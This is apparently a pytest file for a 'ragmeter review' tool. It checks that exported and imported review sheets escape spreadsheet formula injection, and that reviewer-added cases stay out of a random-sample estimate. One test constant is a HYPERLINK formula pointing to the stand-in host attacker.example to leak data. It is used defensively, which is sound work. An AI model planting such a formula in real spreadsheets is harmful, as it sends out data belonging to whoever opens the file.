"""Review session 26 of `ragmeter review`: defects found exporting and importing sheets, each with the test that
failed before its fix."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import polars as pl
import pytest

from test_review import ragmeter, write_folder

FORMULA = '=HYPERLINK("http://attacker.example/?leak","click"). +1 more. -2 days. @home today.'


def _renamed(frame: pl.DataFrame, old: str, new: str) -> pl.DataFrame:
    return frame.with_columns(pl.when(pl.col("id") == old).then(pl.lit(new)).otherwise(pl.col("id")).alias("id"))


@pytest.fixture()
def formula_folder(tmp_path: Path) -> Path:
    """The worked example with a reference answer and an id that a spreadsheet would read as formulas."""
    folder = write_folder(tmp_path / "run")
    cases = pl.read_parquet(folder / "cases.parquet").with_columns(
        pl.when(pl.col("id") == "wrong-2").then(pl.lit(FORMULA)).otherwise(pl.col("reference_answer"))
        .alias("reference_answer"))
    _renamed(cases, "wrong-3", "-wrong-3").write_parquet(folder / "cases.parquet")
    _renamed(pl.read_parquet(folder / "judge.parquet"), "wrong-3", "-wrong-3").write_parquet(folder / "judge.parquet")
    return folder


def test_sheet_cells_a_spreadsheet_would_run_as_formulas_round_trip_as_text(formula_folder: Path,
                                                                             tmp_path: Path) -> None:
    proc = ragmeter("review", "export", formula_folder, "--random", "4", "--seed", "7")
    assert proc.returncode == 0, proc.stderr
    sheet = formula_folder / "review" / "review.csv"
    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    # before: '=HYPERLINK(...)' and '-wrong-3' were written as they are: Excel and LibreOffice run such a cell as a
    # formula (a link that sends data away, or #NAME?) when the reviewer opens the sheet
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert "'" + FORMULA in cells and "'-wrong-3" in cells
    # the reviewer fills it in (every point covered) and saves it as it was read
    filled = tmp_path / "filled.csv"
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(rows[0])
    for row in rows[1:]:
        writer.writerow(row[:4] + ["yes", row[5]])
    filled.write_text(buf.getvalue(), encoding="utf-8")
    proc = ragmeter("review", "import", formula_folder, filled, "--json")
    assert proc.returncode == 0, proc.stderr
    review = pl.read_parquet(formula_folder / "review.parquet")
    assert "-wrong-3" in review["id"].to_list() and "'-wrong-3" not in review["id"].to_list()
    calibration = json.loads((formula_folder / "summary.json").read_text())["calibration"]
    assert calibration["n"] == 15 and calibration["n_incomplete"] == 0


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2 days", "@home", "\tx", "'=1", "''+x", "'plain", "plain", "",
                                  "'", "''"])
def test_the_sheet_escape_is_undone_exactly(text: str) -> None:
    from ragmeter.review.sheet import from_sheet_cell, to_sheet_cell

    cell = to_sheet_cell(text)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert from_sheet_cell(cell) == text


def test_the_csv_the_html_sheet_saves_escapes_formula_starts_too(formula_folder: Path, tmp_path: Path) -> None:
    import html as html_lib
    import re

    from test_review import TICK, _chromium, _dump_dom

    binary = _chromium()
    assert ragmeter("review", "export", formula_folder, "--random", "4", "--seed", "7").returncode == 0
    manifest = json.loads((formula_folder / "review" / "manifest.json").read_text())
    page = formula_folder / "review" / "review.html"
    text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page.read_text(encoding="utf-8"))
    tick = TICK.replace("'seen, \"quoted\", ok'", "'-' + id + ' seen'")
    probe = tmp_path / "probe.html"
    probe.write_text(text.replace("</body>", tick % json.dumps({i: True for i in manifest["strata"]}) + "</body>"),
                     encoding="utf-8")
    found = re.search(r'<pre id="csv-output">(.*?)</pre>', _dump_dom(binary, probe, tmp_path), re.S)
    assert found
    saved = html_lib.unescape(found.group(1))
    cells = [c for row in list(csv.reader(io.StringIO(saved, newline="")))[1:] for c in row]
    # before: the page saved '-wrong-3', the formula and the '-...' notes as they are
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert "'-wrong-3" in cells and "'" + FORMULA in cells and "'--wrong-3 seen" in cells
    (tmp_path / "saved.csv").write_text(saved, encoding="utf-8")
    proc = ragmeter("review", "import", formula_folder, tmp_path / "saved.csv")
    assert proc.returncode == 0, proc.stderr
    review = pl.read_parquet(formula_folder / "review.parquet")
    assert review.filter(pl.col("id") == "-wrong-3")["note"].to_list() == ["--wrong-3 seen"]


# -- a case the reviewer added to the sheet is not a random label ------------------------------------------------------
def test_a_case_added_to_the_sheet_is_compared_but_not_taken_for_a_random_label(tmp_path: Path) -> None:
    from test_review import fill, human_truth

    folder = write_folder(tmp_path / "run")
    assert ragmeter("review", "export", folder, "--random", "4", "--seed", "7").returncode == 0
    manifest = json.loads((folder / "review" / "manifest.json").read_text())
    sheet = folder / "review" / "review.csv"
    extra = [i for i in (f"ok-{k:02d}" for k in range(39)) if i not in manifest["strata"]][:2]
    # the reviewer adds two cases of their own choosing (both judged correct, both wrong in their eyes)
    with sheet.open("a", encoding="utf-8", newline="") as fh:
        for case_id in extra:
            fh.write(f"{case_id},1,Reference for {case_id}.,1,,\n")
    truth = {**human_truth(manifest), **{i: False for i in extra}}
    filled = fill(sheet, tmp_path / "filled.csv", truth)
    proc = ragmeter("review", "import", folder, filled, "--json")
    assert proc.returncode == 0, proc.stderr
    c = json.loads((folder / "summary.json").read_text())["calibration"]
    # they are compared with the judge (17 cases, 2 more disagreements)...
    assert c["n"] == 17 and c["agreement"]["agreed"] == 12 and c["disagreements"]["lenient"] == 5
    assert c["strata"]["outside_sample"]["n_in_sheet"] == 2 and c["strata"]["random"]["n_in_sheet"] == 4
    # ...but the estimate rests on the 4 cases drawn at random, as without them (before: 6 "random" labels, two
    # of them picked by hand, pulled the estimate from 0.80 down to 0.54)
    ppi = c["ppi"]
    assert ppi["n_random_labels"] == 4 and ppi["n_outside_sample"] == 2
    assert ppi["value"] == pytest.approx(0.80)
    review = pl.read_parquet(folder / "review.parquet")
    assert sorted(review.filter(pl.col("stratum") == "outside_sample")["id"].to_list()) == sorted(extra)
    said = " ".join((folder / "report.md").read_text().split())
    assert "2 case(s) outside the drawn sample" in said


def test_without_a_manifest_the_random_draw_is_said_to_be_assumed(tmp_path: Path) -> None:
    from test_review import fill, human_truth

    folder = write_folder(tmp_path / "run")
    assert ragmeter("review", "export", folder, "--random", "4", "--seed", "7").returncode == 0
    manifest = json.loads((folder / "review" / "manifest.json").read_text())
    filled = fill(folder / "review" / "review.csv", tmp_path / "filled.csv", human_truth(manifest))
    (folder / "review" / "manifest.json").unlink()
    proc = ragmeter("review", "import", folder, filled)
    assert proc.returncode == 0, proc.stderr
    ppi = json.loads((folder / "summary.json").read_text())["calibration"]["ppi"]
    assert ppi["random_draw"] == "assumed" and ppi["n_random_labels"] == 4 and ppi["n_outside_sample"] == 0
    assert "taken as drawn at random" in " ".join(proc.stdout.split())
